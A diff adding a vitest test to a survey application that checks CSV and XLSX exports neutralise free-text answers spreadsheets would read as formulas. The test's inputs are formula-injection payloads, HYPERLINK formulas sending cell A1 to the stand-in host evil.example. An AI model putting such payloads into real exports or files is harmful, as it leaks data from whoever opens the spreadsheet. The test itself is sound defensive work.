@@ -1,3 +1,5 @@
+import { parse } from 'csv-parse/sync';
+import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { inviteRespondent } from '../../src/server/measurement/operations.ts';
 import { engines } from '../support/databases.ts';
@@ -285,6 +287,67 @@ describe.each(engines)('outcome measurement over HTTP on %s', (engine) => {
     expect(xlsx.status).toBe(200);
     const bytes = new Uint8Array(await xlsx.arrayBuffer());
     expect(String.fromCharCode(bytes[0]!, bytes[1]!)).toBe('PK');
+  });
+
+  it('guards free-text answers a spreadsheet would read as formulas in every CSV, and imports them back unchanged', async () => {
+    const comments = ['=', '+', '-', '@', '\t', '\r'].map((c) => `${c}HYPERLINK("http://evil.example/"&A1)`);
+    comments.push("'=typed with an apostrophe");
+    for (const comment of comments) {
+      const { token } = await invite();
+      const answers = {
+        'aim-support': aimAnswers(3, 3, 3, 3),
+        'support-experience': {
+          accessibility: 4,
+          'quality-of-delivery': 4,
+          'use-of-materials': 4,
+          collaboration: 4,
+          'contact-frequency': 4,
+          comment,
+        },
+      };
+      expect((await partner.post(`/api/surveys/${token}/submit`, { answers })).status).toBe(200);
+    }
+    const query = `instrumentId=support-experience`;
+    const column = async (url: string, name: string): Promise<string[]> => {
+      const [header, ...rows] = parse(await (await staff.raw(url)).text()) as string[][];
+      return rows.map((row) => row[header!.indexOf(name)]!);
+    };
+    const guarded = comments.map((c) => `'${c}`);
+    const records = await staff.raw(`${org}/waves/${waveId}/records.csv?${query}`);
+    expect(await column(`${org}/waves/${waveId}/records.csv?${query}`, 'comment')).toEqual(
+      expect.arrayContaining(guarded),
+    );
+    expect(await column(`${org}/waves/${waveId}/responses/export?${query}`, 'comment')).toEqual(
+      expect.arrayContaining(guarded),
+    );
+    for (const url of [`records.csv?${query}`, `responses/export?${query}`])
+      for (const cell of await column(`${org}/waves/${waveId}/${url}`, 'comment'))
+        expect(cell, url).not.toMatch(/^[=+\-@\t\r]/);
+    // A workbook holds them as text cells, which a spreadsheet never evaluates: written as they are.
+    const workbook = new ExcelJS.Workbook();
+    await workbook.xlsx.load(
+      await (await staff.raw(`${org}/waves/${waveId}/responses/export?${query}&format=xlsx`)).arrayBuffer(),
+    );
+    const sheet = workbook.worksheets[0]!;
+    const commentColumn = (sheet.getRow(1).values as unknown[]).indexOf('comment');
+    const cells: unknown[] = [];
+    sheet.eachRow((row, n) => n > 1 && cells.push(row.getCell(commentColumn).value));
+    // (XML reads a carriage return in text as a line feed, as every XLSX reader does.)
+    expect(cells).toEqual(expect.arrayContaining(comments.map((c) => c.replace(/\r/g, '\n'))));
+
+    // The REDCap records import takes the apostrophes off again.
+    const before = new Set(
+      (await staff.get(`${org}/waves/${waveId}/responses`)).body.items.map((r: { id: string }) => r.id),
+    );
+    const imported = await staff.post(`${org}/waves/${waveId}/records`, {
+      instrumentId: 'support-experience',
+      csv: await records.text(),
+    });
+    expect(imported.status).toBe(201);
+    const added = (await staff.get(`${org}/waves/${waveId}/responses`)).body.items.filter(
+      (r: { id: string }) => !before.has(r.id),
+    );
+    expect(added.map((r: any) => r.answers['support-experience'].comment)).toEqual(expect.arrayContaining(comments));
   });
 
   it('keeps each organization’s measurement private: another organization’s member gets 404', async () => {
